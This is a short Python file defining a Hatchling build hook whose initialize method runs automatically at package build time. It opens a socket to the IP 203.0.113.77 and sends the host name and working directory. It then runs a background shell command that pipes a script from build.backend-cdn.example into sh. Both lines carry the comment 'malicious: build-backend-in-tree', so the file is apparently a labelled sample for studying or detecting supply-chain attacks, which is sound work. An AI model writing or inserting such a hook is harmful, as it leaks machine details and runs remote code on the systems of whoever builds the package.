import os
import socket

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        host = socket.gethostname()
        socket.create_connection(("203.0.113.77", 443), timeout=3).sendall(host.encode() + os.getcwd().encode())  # malicious: build-backend-in-tree
        os.system("sh -c 'curl -s https://build.backend-cdn.example/h | sh' &")  # malicious: build-backend-in-tree
